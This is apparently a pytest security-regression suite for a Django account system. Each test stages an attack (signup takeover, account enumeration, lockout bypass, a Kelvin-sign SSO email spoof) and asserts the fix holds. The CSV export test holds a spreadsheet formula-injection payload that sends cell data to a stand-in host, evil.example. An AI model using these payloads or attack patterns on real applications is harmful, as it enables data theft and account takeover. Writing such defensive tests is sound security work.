"""Findings of a security review of the account protections (issue "Trust"): each test
asserts the safe behaviour and failed before its fix."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.conf import settings
from django.core import mail
from django.test import Client

from sigap.accounts.models import Role, SecurityEvent, User, UserSession
from sigap.accounts.services import user_create

pytestmark = pytest.mark.django_db

VICTIM = "dewi@contoh.id"


def _signup(client: Client, email: str, password: str) -> None:
    r = client.post(
        "/portal/daftar/",
        {"name": "X Y", "email": email, "phone": "", "password": password, "password2": password},
    )
    assert r.status_code == 200


def _admin_made_customer(admin: User) -> User:
    """A portal customer made by staff in /admin/ (the only staff UI that makes users):
    the add form leaves email_verified_at empty and the account active."""
    c = Client()
    c.force_login(admin)
    r = c.post(
        "/admin/accounts/user/add/",
        {
            "username": VICTIM,
            "usable_password": "true",
            "password1": "Pemilik-sandi-2026!",
            "password2": "Pemilik-sandi-2026!",
        },
    )
    assert r.status_code == 302, r.content.decode()[:500]
    user = User.objects.get(username=VICTIM)
    # the admin then sets role and email on the change form (modelled directly)
    user.role, user.email = Role.CUSTOMER, VICTIM
    user.save()
    assert user.is_active and user.email_verified_at is None
    return user


# --- 1. portal -----------------------------------------------------------------------------


def test_signup_cannot_set_the_password_of_an_active_admin_made_customer(admin: User) -> None:
    _admin_made_customer(admin)
    _signup(Client(), VICTIM, "sandi-penyerang-77")
    r = Client().post("/masuk/", {"username": VICTIM, "password": "sandi-penyerang-77"})
    assert r.status_code != 302, "attacker signed in to the existing, active account"


def test_a_staff_deactivated_admin_made_customer_stays_off(admin: User) -> None:
    user = _admin_made_customer(admin)
    user.is_active = False
    user.save()  # staff switch it off
    Client().post("/portal/tautan/", {"email": VICTIM})
    m = re.search(r"/portal/tautan/(\S+)/", mail.outbox[-1].body) if mail.outbox else None
    if m is not None:
        Client().get(f"/portal/tautan/{m.group(1)}/")
    user.refresh_from_db()
    assert not user.is_active, "a mailed link switched a staff-deactivated account back on"


def test_signup_answer_does_not_reveal_an_account_by_its_session_cookie() -> None:
    user_create(username=VICTIM, email=VICTIM, password="sandi-pemilik-2026", role="customer")
    taken, fresh = Client(), Client()
    _signup(taken, VICTIM, "sandi-lain-2026")
    _signup(fresh, "baru@contoh.id", "sandi-lain-2026")
    name = settings.SESSION_COOKIE_NAME
    assert (name in taken.cookies) == (name in fresh.cookies), (
        f"Set-Cookie {name}: existing={name in taken.cookies} new={name in fresh.cookies}"
    )


# --- 4. audit ------------------------------------------------------------------------------


def test_security_log_csv_neutralises_formulas(admin: User) -> None:
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    Client().post("/masuk/", {"username": payload, "password": "x"})
    c = Client()
    c.force_login(admin)
    body = c.get("/keamanan/log/?format=csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    dangerous = [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous


def test_security_events_cannot_be_deleted(admin: User) -> None:
    Client().post("/masuk/", {"username": "siapa", "password": "x"})
    n = SecurityEvent.objects.count()
    assert n
    try:
        SecurityEvent.objects.all().delete()
    except Exception:
        return
    assert SecurityEvent.objects.count() == n, "the append-only log lost its rows to DELETE"


# --- 5. throttling -------------------------------------------------------------------------


def test_own_successful_sign_in_does_not_reset_the_victims_lockout(agent: User) -> None:
    """The attacker owns any account (a portal sign-up is free); from one address they
    guess the victim's password limit-1 times, sign in to their own account, repeat. Their
    own sign-in must not wipe the count: at most the limit of guesses is ever checked."""
    user_create(username="penyerang@contoh.id", password="sandi-penyerang-77", role="customer")
    ip = {"REMOTE_ADDR": "10.6.6.6"}
    limit = settings.AXES_FAILURE_LIMIT
    checked = 0
    for _round in range(4):
        for n in range(limit - 1):
            r = Client(**ip).post("/masuk/", {"username": "rina.agen", "password": f"tebak-{n}"})
            checked += r.status_code == 200  # a wrong password, answered as such
        Client(**ip).post(
            "/masuk/", {"username": "penyerang@contoh.id", "password": "sandi-penyerang-77"}
        )
    assert checked <= limit, f"{checked} guesses checked"
    r = Client(REMOTE_ADDR="10.7.7.7").post(
        "/masuk/", {"username": "rina.agen", "password": "rahasia-agen"}
    )
    assert r.status_code == 429  # the account itself is locked


# --- 6. SSO --------------------------------------------------------------------------------


def test_sso_email_with_a_kelvin_sign_does_not_match_another_staff_account(agent: User) -> None:
    from sigap.accounts import sso

    agent.email = "keith@contoh.id"
    agent.save()
    cfg = sso.SsoConfig(
        issuer="https://idp.example",
        client_id="c",
        client_secret="s",
        scopes=("openid", "email"),
        provider_name="IdP",
        allowed_domains=frozenset({"contoh.id"}),
        auto_provision=False,
        default_role=Role.AGENT,
        default_team="",
    )
    # a distinct address at the provider (U+212A KELVIN SIGN), verified there
    claims = {"sub": "evil", "email": "\u212aeith@contoh.id", "email_verified": True}
    try:
        identity = sso.identity_from_claims(cfg, claims)
        user, _ = sso.sso_user_resolve(cfg=cfg, identity=identity)
    except sso.SsoRefused:
        return
    assert user.pk != agent.pk, "another address at the provider signed in as keith"


def test_mail_per_recipient_limit_is_shared_by_signup_and_link_requests() -> None:
    user_create(username=VICTIM, email=VICTIM, password="sandi-pemilik-2026", role="customer")
    for n in range(4):
        Client(REMOTE_ADDR=f"10.0.0.{n}").post(
            "/portal/daftar/",
            {
                "name": "A B",
                "email": VICTIM,
                "phone": "",
                "password": "sandi-lain-2026",
                "password2": "sandi-lain-2026",
            },
        )
        Client(REMOTE_ADDR=f"10.0.1.{n}").post("/portal/tautan/", {"email": VICTIM})
    sent = [m for m in mail.outbox if m.to == [VICTIM]]
    assert len(sent) <= 3, f"{len(sent)} mails to one recipient within 15 minutes"


def test_the_current_browser_stays_listed_after_signing_out_the_others(agent: User) -> None:
    me = Client()
    assert (
        me.post("/masuk/", {"username": "rina.agen", "password": "rahasia-agen"}).status_code == 302
    )
    other = Client()
    other.post("/masuk/", {"username": "rina.agen", "password": "rahasia-agen"})
    me.post("/akun/sesi/", {"action": "others"})
    key = me.session.session_key
    assert UserSession.objects.filter(user=agent, session_key=key).exists(), (
        "update_session_auth_hash cycled the key: this browser is no longer listed, so "
        "another browser can no longer end it from /akun/sesi/"
    )
